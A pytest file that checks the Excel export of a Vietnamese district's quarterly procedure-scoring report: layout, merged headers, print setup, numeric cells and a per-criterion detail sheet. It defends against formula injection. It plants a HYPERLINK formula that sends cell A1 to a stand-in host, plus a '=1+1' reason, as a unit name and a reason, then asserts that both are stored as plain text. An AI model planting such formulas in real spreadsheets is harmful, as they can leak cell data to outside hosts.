"""The scoring table in Excel: the printed layout (title, merged header, frozen panes, landscape
A4 with repeated header rows), numbers as numbers, and never a formula."""

from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from reports import domain, excel
from reports.snapshot import take_snapshot
from scoring.domain import Entry, Transition, record_review, transition
from scoring.periods import open_period
from tests.factories import criterion_ids, district
from tests.reports.conftest import NO_TTHC, numbered, score_period

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://example.test/?x="&A1,"Bấm vào đây")'
TITLE = "BIỂU CHẤM ĐIỂM, ĐÁNH GIÁ VIỆC GIẢI QUYẾT TTHC QUÝ II NĂM 2021"
REASON = "=1+1 hồ sơ trễ hẹn"


@pytest.fixture
def place(db):
    place = district(n_communes=2, n_agencies=2)
    place.agencies[0].name = FORMULA_NAME
    place.agencies[0].save()
    return place


@pytest.fixture
def report(place, criteria_set):
    period = open_period(place.district, 2021, 2, criteria_set)
    score_period(period, {place.agencies[1]: NO_TTHC}, approve=False)
    for card in period.scorecards.all():
        if card.unit == place.communes[1]:
            ids = criterion_ids(card)
            card = record_review(card, {ids["1"]: Entry(Decimal(1), REASON)})
        transition(card, Transition.APPROVE)
    return numbered(domain.report_for(period))


def workbook(report):
    return load_workbook(BytesIO(excel.render_xlsx(report, take_snapshot(report.period))))


def row_values(ws, row: int) -> list:
    return [cell.value for cell in ws[row]]


def test_the_title_rows_name_the_quarter_and_the_report(report, place):
    ws = workbook(report).worksheets[0]

    assert (ws["A1"].value, ws["A2"].value) == (
        TITLE,
        "(Kèm theo Báo cáo số 15/BC-UBND ngày 05/07/2021 của UBND huyện "
        f"{place.district.short_name})",
    )
    assert ws.title == "Biểu chấm điểm"


def test_the_header_is_merged_as_in_the_printed_table(report):
    ws = workbook(report).worksheets[0]

    merged = {str(cell_range) for cell_range in ws.merged_cells.ranges}

    assert merged == {
        "A1:O1",
        "A2:O2",
        # STT, name; the criteria under one heading; the four result columns
        "A4:A5",
        "B4:B5",
        "C4:K4",
        "L4:L5",
        "M4:M5",
        "N4:N5",
        "O4:O5",
        # group rows, and the agency with no TTHC across the score columns
        "B6:O6",
        "C8:O8",
        "B9:O9",
    }
    assert row_values(ws, 4)[:3] == ["STT", "Tên cơ quan, đơn vị", "Điểm thẩm định theo tiêu chí"]
    assert row_values(ws, 4)[11:] == [
        "Tổng điểm tự chấm",
        "Tổng điểm thẩm định",
        "Xếp loại",
        "Xếp hạng",
    ]
    assert row_values(ws, 5)[2:11] == [str(n) for n in range(1, 10)]


def test_it_prints_landscape_a4_with_the_header_on_every_page(report):
    ws = workbook(report).worksheets[0]

    assert ws.freeze_panes == "C6"
    assert (ws.page_setup.orientation, str(ws.page_setup.paperSize)) == ("landscape", "9")
    assert ws.print_title_rows == "$4:$5"


def test_points_are_numbers_and_nothing_is_a_formula(report, place):
    wb = workbook(report)
    ws = wb.worksheets[0]

    formulas = [
        c.coordinate for sheet in wb for row in sheet.iter_rows() for c in row if c.data_type == "f"
    ]

    assert formulas == []
    assert row_values(ws, 6)[:2] == ["I", "Các cơ quan, đơn vị"]
    assert row_values(ws, 7) == [1, FORMULA_NAME, *[2] * 9, 18, 18, "Xuất sắc", 1]
    assert row_values(ws, 8)[:3] == [2, place.agencies[1].name, "Không phát sinh TTHC"]
    assert row_values(ws, 10) == [1, place.communes[0].name, *[2] * 9, 18, 18, "Xuất sắc", 1]
    assert row_values(ws, 11) == [2, place.communes[1].name, 1, *[2] * 8, 18, 17, "Xuất sắc", 2]


def test_a_name_that_looks_like_a_formula_is_stored_as_text(report):
    cell = workbook(report).worksheets[0]["B7"]

    assert (cell.value, cell.data_type) == (FORMULA_NAME, "s")


def test_fractional_points_keep_two_decimals(report):
    snapshot = take_snapshot(report.period)
    snapshot["groups"][0]["units"][0]["final_total"] = "15.75"

    ws = load_workbook(BytesIO(excel.render_xlsx(report, snapshot))).worksheets[0]

    assert (ws["M7"].value, ws["M7"].number_format) == (15.75, "0.00")


def test_the_detail_sheet_has_self_reviewed_and_reason_per_criterion(report, place):
    ws = workbook(report).worksheets[1]
    rows = [row_values(ws, r) for r in range(1, ws.max_row + 1)]

    assert ws.title == "Chi tiết theo tiêu chí"
    assert rows[0] == [
        "Nhóm",
        "Đơn vị",
        "Tiêu chí",
        "Nội dung tiêu chí",
        "Điểm tự chấm",
        "Điểm thẩm định",
        "Điểm cuối cùng",
        "Giải trình của đơn vị",
        "Lý do điều chỉnh",
    ]
    # three scored units × nine criteria; the unit with no TTHC has no rows
    assert len(rows) == 1 + 3 * 9
    assert {row[1] for row in rows[1:]} == {
        FORMULA_NAME,
        place.communes[0].name,
        place.communes[1].name,
    }
    reviewed = [row for row in rows if row[1] == place.communes[1].name and row[2] == "1"]
    assert reviewed == [
        [
            "Các xã",
            place.communes[1].name,
            "1",
            "Tổng thời gian giải quyết TTHC",
            2,
            1,
            1,
            "Theo sổ theo dõi hồ sơ",
            REASON,
        ]
    ]
    assert ws.cell(row=rows.index(reviewed[0]) + 1, column=9).data_type == "s"
